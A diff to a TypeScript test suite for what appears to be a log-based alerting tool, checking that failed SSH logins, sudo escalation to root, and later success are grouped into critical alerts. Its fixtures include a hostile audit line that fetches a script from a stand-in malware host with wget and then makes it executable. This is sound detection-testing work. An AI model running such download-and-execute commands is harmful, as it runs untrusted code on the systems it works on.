@@ -188,10 +188,12 @@ describe('demonstrations, by a followed file', () => {
       'sshd[201]: Failed password for webdev from 198.51.100.17 port 50221 ssh2',
       'sudo: webdev : TTY=pts/0 ; PWD=/home/webdev ; USER=root ; COMMAND=/bin/bash',
     ]);
-    await alert(
-      'an alert about it',
-      ({ message, rule_name, count }) => count >= 2 || /escalat|root|sudo/i.test(`${rule_name} ${message}`),
-    );
+    const { data } = await alert('an alert about both', ({ group, count }) => group.user === 'webdev' && count === 2);
+    expect(data.severity).toBe('critical');
+    expect(data.matched_events.map((event: Json) => event.parsed.event_type)).toEqual([
+      'auth_fail',
+      'privileged_access',
+    ]);
   });
 
   test('P-092 system errors are warnings or worse', async () => {
@@ -243,12 +245,10 @@ describe('demonstrations, by a followed file', () => {
       'audit: USER_CMD pid=4711 uid=0 cmd="wget http://malware.example/x.sh"',
       'audit: USER_CMD pid=4712 uid=0 cmd="chmod +x x.sh"',
     ]);
-    const found = await alert(
+    const { data } = await alert(
       'success after failures',
-      ({ group, explain, count, message }) =>
-        Object.values(group).includes('203.0.113.43') &&
-        (explain !== undefined || count > 1 || /success|accepted|logged in/i.test(message)),
+      ({ group, count, severity }) => group.src_ip === '203.0.113.43' && severity === 'critical' && count === 4,
     );
-    expect(found.data.count).toBeGreaterThan(1);
+    expect(data.matched_events.at(-1).event_class).toBe('auth.success');
   });
 });
